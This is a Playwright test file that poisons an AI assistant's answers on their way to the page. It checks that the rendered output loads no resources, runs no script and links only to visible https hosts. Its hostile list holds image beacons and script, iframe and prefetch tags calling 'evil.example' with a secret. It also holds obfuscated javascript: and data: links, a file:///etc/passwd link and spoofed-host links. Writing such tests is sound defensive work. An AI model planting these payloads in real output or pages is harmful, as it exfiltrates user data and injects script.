import { expect, type Page, test } from '@playwright/test';
import type { ConversationAnswer } from '#shared/contracts/assistant';
import { MARK, watch } from './watched-page.ts';

/** A server, or a model behind it, that was taken over: the page is the last to hold. */

// Many pages in one test, on a machine that may be busy.
test.describe.configure({ timeout: 240_000 });

const evil = 'https://evil.example/?d=secret';
const hostile = [
  `![](${evil})`,
  `![seen][pixel]\n\n[pixel]: ${evil} "title"`,
  `[![inner](${evil})](${evil})`,
  `<img ${MARK} src="${evil}" onerror="alert(1)">`,
  `<picture ${MARK}><source srcset="${evil}"></picture>`,
  `<link ${MARK} rel="prefetch" href="${evil}">`,
  `<style ${MARK}>@import "${evil}";</style>`,
  `<iframe ${MARK} src="${evil}"></iframe>`,
  `<script ${MARK} src="${evil}"></script>`,
  `<audio ${MARK} src="${evil}" autoplay></audio>`,
  '[link 1](javascript:alert(1))',
  '[link 2](JaVaScRiPt:alert(1))',
  '[link 3](java&#115;cript:alert(1))',
  '[link 4](javascript&colon;alert(1))',
  '[link 5](<java\tscript:alert(1)>)',
  '[link 6](&#x01;javascript:alert(1))',
  '[link 7](vbscript:msgbox(1))',
  '[link 8](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[link 9](//evil.example/p)',
  '[link 10](\\\\evil.example/p)',
  '[link 11](http://evil.example/p)',
  '[link 12](/api/auth/logout)',
  '[link 13](blob:https://evil.example/1)',
  '[link 14](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[link 15][away]\n\n[away]: javascript:alert(1)',
  `<a ${MARK} href="javascript:alert(1)">link 16</a>`,
  '[1]: https://evil.example/cited',
  '[www.tga.gov.au](https://evil.example/spoofed)',
  '[the register](https://www.tga.gov.au@evil.example/spoofed)',
  '[a page](https://www.tga.gov.au/artg)',
] as const;
const text = hostile.join('\n\n');
/** What the contract takes as a source. */
const short = text.slice(0, 400);

/** A real answer with hostile words in each place that shows some, and hostile addresses. */
const poisoned = (answer: ConversationAnswer): ConversationAnswer => ({
  ...answer,
  response: `${text}\n\n${answer.response}`,
  engineNote: text,
  citations: answer.citations.map((one) => ({ ...one, source: short, note: short, url: evil })),
  vendorQuestions: [...hostile],
  nextSteps: [...hostile],
  recommendations: answer.recommendations.map((one) => ({
    ...one,
    reasoning: text,
    description: text,
    vendorWebsite: 'javascript:alert(1)',
    innovationHighlights: [...hostile],
    publicContracts: [...hostile],
    notOnRecord: [...hostile],
    evidence: Object.fromEntries(
      Object.entries(one.evidence).map(([field, evidence]) => [
        field,
        { ...evidence, source: short, note: short, url: evil },
      ]),
    ),
  })),
});

const eventOf = (name: string, data: object) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`;

/** The real server's answer, poisoned on its way to the page, streamed or read back. */
const poison = async (page: Page) => {
  await page.route('**/api/ai/conversation', async (route) => {
    const headers = { ...route.request().headers(), accept: 'application/json' };
    const real = await route.fetch({ headers });
    const answer = poisoned((await real.json()) as ConversationAnswer);
    const events = [
      eventOf('status', { type: 'status', stage: text }),
      eventOf('delta', { type: 'delta', text: answer.response, citations: answer.citations }),
      eventOf('result', answer),
    ];
    const contentType = 'text/event-stream';
    await route.fulfill({
      response: real,
      contentType,
      headers: { 'content-type': contentType },
      body: events.join(''),
    });
  });
};

const ask = async (page: Page) => {
  await page.goto('/');
  await page.getByRole('textbox', { name: 'Your question' }).fill('wireless nurse call for 92 beds in aged care');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('link', { name: 'a page' }).first()).toBeVisible();
};

test('what a model writes loads nothing, runs nothing and links nowhere but to https, with the host in sight [fault 28]', async ({
  page,
}) => {
  const { isClean } = await watch(page);
  await poison(page);
  await ask(page);
  for (const button of (await page.getByRole('article').getByRole('button', { expanded: false }).all()).slice(0, 12)) {
    if (await button.isVisible()) await button.click();
  }
  await isClean();
  const answer = page.getByRole('log').or(page.getByRole('article').last()).first();
  await expect(answer.locator('img, picture, audio, iframe, script, link, style, object, embed')).toHaveCount(0);
  const links = await page.locator('main a[href]').evaluateAll((all) =>
    all
      .filter((link) => !link.getAttribute('href')?.startsWith('/') && !link.getAttribute('href')?.startsWith('#'))
      .map((link) => ({
        href: link.getAttribute('href') ?? '',
        rel: link.getAttribute('rel') ?? '',
        text: link.textContent ?? '',
      })),
  );
  expect(links.length).toBeGreaterThan(2);
  for (const { href, rel, text } of links) {
    expect(href).toMatch(/^https:\/\//);
    expect(rel).toContain('noopener');
    expect(text).toContain(new URL(href).hostname.replace(/^www\./, ''));
  }
});
